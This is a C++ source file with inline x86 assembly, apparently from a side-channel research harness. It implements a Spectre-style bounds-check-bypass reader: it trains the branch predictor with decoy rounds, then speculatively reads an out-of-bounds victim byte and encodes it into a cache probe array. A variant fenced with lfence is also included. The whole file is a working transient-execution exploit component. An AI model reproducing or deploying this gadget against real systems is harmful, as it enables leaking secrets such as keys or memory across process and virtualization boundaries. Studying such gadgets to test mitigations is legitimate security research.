// SPDX-License-Identifier: MIT
// The load behind a bounds check that it does not pass. The check's limit is three trips to memory
// away; until it is known, the branch goes where it went before. As in signal_reader.cpp, the
// victim is read twice: to fetch its line, and when the line has come.
#include <array>

#include "guest/attacks/slow_pointer.h"
#include "guest/attacks/transient_read.h"

extern "C" {
/// Sends the byte at `victim` if index < the value that `slow` leads to.
void send_if_below(const void* slow, std::uint64_t index, const std::uint8_t* victim,
                   const std::uint8_t* channel);
/// The same with a barrier in front of the sending.
void send_if_below_late(const void* slow, std::uint64_t index, const std::uint8_t* victim,
                        const std::uint8_t* channel);
}

asm(R"(
    .macro SEND_IF_BELOW name, barrier
    .balign 64
    .globl \name
    .type \name, @function
\name:
    movq (%rdi), %rdi
    movq (%rdi), %rdi
    movq (%rdi), %r8
    cmpq %r8, %rsi
    jae 1f
    movzbl (%rdx), %eax
    andl $0, %edi
    movzbl (%rdx,%rdi), %eax
    \barrier
    shlq $12, %rax
    movzbl (%rcx,%rax), %eax
1:  ret
    .size \name, . - \name
    .endm

    .pushsection .text
    SEND_IF_BELOW send_if_below
    SEND_IF_BELOW send_if_below_late, lfence
    .popsection
)");

namespace attacks {

namespace {

constexpr std::uint64_t limit = 16;
/// Enough that the branches that a predictor remembers are all of this loop.
constexpr unsigned training_rounds = 15;

/// All ones in the last round, else 0; without a branch, and so that the compiler cannot tell the
/// rounds apart either.
std::uint64_t mask_of_last(std::uint64_t round) {
    constexpr unsigned sign = 63;
    std::uint64_t mask = ((round - training_rounds) >> sign) - 1;
    asm volatile("" : "+r"(mask));
    return mask;
}

class MispredictReader final : public TransientReader {
public:
    explicit MispredictReader(Sending sending)
        : send_(sending == Sending::Late ? &send_if_below_late : &send_if_below) {}

    /// The last round is the attack; all rounds run the same instructions, so that nothing but the
    /// limit tells them apart.
    void attempt(const Attempt& attempt) override {
        const auto target = reinterpret_cast<std::uintptr_t>(attempt.victim);
        const auto decoy = reinterpret_cast<std::uintptr_t>(&zero_);
        for (unsigned round = 0; round <= training_rounds; ++round) {
            const std::uint64_t attack = mask_of_last(round);
            const std::uintptr_t victim = decoy ^ ((decoy ^ target) & attack);
            slow_.flush();
            send_(slow_.start(), limit & attack, reinterpret_cast<const std::uint8_t*>(victim),
                  attempt.channel);
        }
    }

private:
    decltype(&send_if_below) send_;
    SlowPointer slow_{limit};
    std::uint8_t zero_ = 0;  ///< training sends 0, which the receiver leaves out
};

}  // namespace

std::unique_ptr<TransientReader> make_mispredict_reader(Sending sending) {
    return std::make_unique<MispredictReader>(sending);
}

}  // namespace attacks
